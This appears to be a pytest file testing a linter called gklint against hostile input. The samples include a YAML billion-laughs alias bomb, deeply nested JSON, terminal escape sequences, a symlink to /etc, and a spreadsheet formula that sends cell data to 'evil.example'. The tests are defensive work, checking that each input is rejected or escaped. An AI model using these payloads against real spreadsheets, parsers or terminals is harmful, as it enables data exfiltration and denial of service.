"""Hostile input: files gklint did not write must not run code, hang, or
flood the terminal; a config found beside the reports is trusted only
inside its own folder."""

import csv
import io
import json
import os
import subprocess
import sys

from conftest import SEEDS
from test_ruleset import GOOD

from gklint.config import ConfigError, load


def gklint(*args, cwd=None, timeout=120):
    return subprocess.run([sys.executable, "-m", "gklint", *map(str, args)], capture_output=True,
                          cwd=cwd, timeout=timeout)


def test_walked_config_may_not_name_rule_packs_outside_its_folder(tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "pack.yaml").write_text(GOOD, encoding="utf-8")
    repo = tmp_path / "repo"
    repo.mkdir()
    report = repo / "report.txt"
    report.write_bytes(SEEDS["003"].read_bytes())
    for entry in ("../elsewhere", str(outside)):
        (repo / ".gklint.yaml").write_text(f"select: [GK5]\nrules: ['{entry}']\n", encoding="utf-8")
        run = gklint(report, cwd=repo)
        assert run.returncode == 2, run.stderr
        err = run.stderr.decode().strip()
        assert len(err.splitlines()) == 1 and ".gklint.yaml:2: `rules`" in err and "--rules" in err
    # The same pack is fine when the user names it, or the config, on the command line.
    assert gklint(report, "--rules", outside, "--isolated", cwd=repo).returncode in (0, 1)
    assert gklint(report, "--config", repo / ".gklint.yaml", cwd=repo).returncode in (0, 1)


def test_rule_pack_inside_the_config_folder_is_allowed(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "pack.yaml").write_text(GOOD, encoding="utf-8")
    (tmp_path / ".gklint.yaml").write_text("rules: [rules]\n", encoding="utf-8")
    assert load(tmp_path / ".gklint.yaml").rules == [str((tmp_path / "rules").resolve())]
    link = tmp_path / "sneaky"
    link.symlink_to("/etc")
    (tmp_path / ".gklint.yaml").write_text("rules: [sneaky]\n", encoding="utf-8")
    try:
        load(tmp_path / ".gklint.yaml")
    except ConfigError as err:
        assert "only name rule packs inside its own folder" in str(err)
    else:
        raise AssertionError("a symlink out of the folder was accepted")


def _alias_bomb(top_key: str = "a") -> str:
    """A billion-laughs YAML document: a few hundred bytes, 9**14 nodes once walked."""
    lines = [f'{top_key}: &a ["x","x","x","x","x","x","x","x","x"]']
    for level in range(14):
        name, previous = chr(98 + level), chr(97 + level)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


HOSTILE_YAML = {
    "alias bomb": (_alias_bomb(), "aliases"),
    "deep nesting": ("select: " + "[" * 5000 + "]" * 5000 + "\n", "nested deeper than"),
    "5000-digit number": ("select: [GK1]\nfail-on: " + "9" * 5000 + "\n", "4300 digits"),
}


def _one_line_exit_2(run, expected: str):
    err = run.stderr.decode()
    assert run.returncode == 2, err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert expected in err, err


def test_hostile_config_rule_pack_and_suppressions_are_one_line_exit_2(tmp_path):
    report = tmp_path / "report.txt"
    report.write_bytes(SEEDS["003"].read_bytes())
    (tmp_path / "pack").mkdir()
    for name, (text, expected) in HOSTILE_YAML.items():
        (tmp_path / ".gklint.yaml").write_text(text, encoding="utf-8")
        _one_line_exit_2(gklint(report, cwd=tmp_path, timeout=30), expected)
        (tmp_path / ".gklint.yaml").unlink()
        (tmp_path / "pack" / "p.yaml").write_text(text, encoding="utf-8")
        _one_line_exit_2(gklint(report, "--isolated", "--rules", "pack", cwd=tmp_path, timeout=30), expected)
        (tmp_path / ".gklint-suppressions.yaml").write_text(text.replace("select:", "suppressions:"),
                                                            encoding="utf-8")
        _one_line_exit_2(gklint(report, cwd=tmp_path, timeout=30), expected if name != "5000-digit number"
                         else "suppressions")
        (tmp_path / ".gklint-suppressions.yaml").unlink()


HOSTILE_JSON = {
    "deep nesting": '{"version": 1, "findings": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "5000-digit number": '{"version": 1, "findings": [{"path": ' + "9" * 5000 + "}]}",
    "mixed types": '{"version": 1, "tool": "gklint", "findings": [1, "a", null]}',
    "truncated": '{"version": 1, "tool": "gklint", "findi',
}

HOSTILE_SARIF = {
    "deep nesting": '{"version": "2.1.0", "runs": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "5000-digit number": '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "gklint"}}, "artifacts": '
                         '[{"location": {"uri": "a"}, "properties": {"characters": ' + "9" * 5000 + "}}]}]}",
    "mixed types": '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "gklint", "rules": [1]}}}]}',
    "a run that is a number": '{"version": "2.1.0", "runs": [7]}',
    "a size that is text": '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "gklint"}}, "artifacts": '
                           '[{"location": {"uri": "a"}, "properties": {"characters": "many"}}]}]}',
}


def test_hostile_baseline_is_one_line_exit_2(tmp_path):
    report = tmp_path / "report.txt"
    report.write_bytes(SEEDS["003"].read_bytes())
    for name, text in HOSTILE_JSON.items():
        (tmp_path / "baseline.json").write_text(text, encoding="utf-8")
        _one_line_exit_2(gklint(report, "--isolated", "--baseline", "baseline.json", cwd=tmp_path, timeout=30),
                         "baseline")


def test_hostile_sarif_in_summary_is_reported_and_the_rest_summarised(tmp_path):
    good = tmp_path / "good.sarif"
    assert gklint(SEEDS["003"], "--isolated", "--format", "sarif", "-o", good).returncode in (0, 1)
    for name, text in HOSTILE_SARIF.items():
        bad = tmp_path / "bad.sarif"
        bad.write_text(text, encoding="utf-8")
        run = gklint("summary", bad, good, "--format", "json", timeout=30)
        err = run.stderr.decode()
        assert run.returncode == 2 and "Traceback" not in err, (name, err)
        assert err.strip().startswith(f"gklint: {bad}") and len(err.strip().splitlines()) == 1, (name, err)
        assert b'"reports"' in run.stdout, name  # the good log is still summarised


def test_undecodable_file_names_are_escaped_in_every_output(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    name = b"\xb1\xa8\xb8\xe6-\xff.txt"  # GBK bytes in a UTF-8 file system: not valid UTF-8
    (folder / os.fsdecode(name)).write_bytes(SEEDS["003"].read_bytes())
    for fmt in ("text", "json", "sarif", "github", "html"):
        out = tmp_path / f"out.{fmt}"
        run = gklint(folder, "--isolated", "--format", fmt, "-o", out)
        assert run.returncode in (0, 1) and b"Traceback" not in run.stderr, (fmt, run.stderr)
        text = out.read_text(encoding="utf-8")  # valid UTF-8, whole
        assert "GK" in text, fmt
    sarif = json.loads((tmp_path / "out.sarif").read_text(encoding="utf-8"))
    uris = {a["location"]["uri"] for a in sarif["runs"][0]["artifacts"]}
    assert any(uri.endswith("%B1%A8%B8%E6-%FF.txt") for uri in uris), uris
    assert "\\xff.txt" in json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["files"][0]["path"]
    # A summary of that SARIF names the same file, and its CSV is valid UTF-8 too.
    run = gklint("summary", tmp_path / "out.sarif", "--format", "csv")
    assert run.returncode == 0 and "\\xff.txt" in run.stdout.decode("utf-8-sig")


def test_terminal_control_characters_in_a_report_are_shown_escaped(tmp_path):
    report = tmp_path / "report.txt"
    text = SEEDS["003"].read_text(encoding="utf-8")
    hostile = "\x1b]0;pwned\x07\x1b[2J\u202e"
    lines = text.splitlines()
    lines[4] = hostile + lines[4]  # the preamble line, which the contact finding quotes
    report.write_text("\n".join(lines) + "\n", encoding="utf-8")
    for fmt in ("text", "github"):
        run = gklint(report, "--isolated", "--format", fmt)
        assert run.returncode in (0, 1) and b"GK2" in run.stdout
        assert b"\x1b" not in run.stdout and b"\x07" not in run.stdout and "\u202e".encode() not in run.stdout
    run = gklint(report, "--isolated", "--select", "GK2")
    assert "\\x1b]0;pwned\\x07" in run.stdout.decode()


def test_a_fifo_in_a_walked_folder_is_skipped_with_a_note(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "report.txt").write_bytes(SEEDS["003"].read_bytes())
    os.mkfifo(folder / "pipe.txt")  # nobody writes to it: reading it would block forever
    run = gklint(folder, "--isolated", "--format", "json", timeout=60)
    assert run.returncode in (0, 1)
    assert "pipe.txt: 不是普通文件" in run.stderr.decode()
    assert [f["path"] for f in json.loads(run.stdout)["files"]] == [str(folder / "report.txt")]


def test_a_formula_from_a_report_is_not_a_formula_in_the_summary_csv(tmp_path):
    log = tmp_path / "x.sarif"
    assert gklint(SEEDS["003"], "--isolated", "--format", "sarif", "-o", log).returncode in (0, 1)
    data = json.loads(log.read_text(encoding="utf-8"))
    for artifact in data["runs"][0]["artifacts"]:
        artifact["properties"]["agency"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    for result in data["runs"][0]["results"]:
        result["properties"]["agency"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    log.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    rows = list(csv.reader(io.StringIO(gklint("summary", log, "--format", "csv").stdout.decode("utf-8-sig"))))
    agency = rows[1][rows[0].index("agency")]
    assert agency.startswith("'=HYPERLINK"), agency
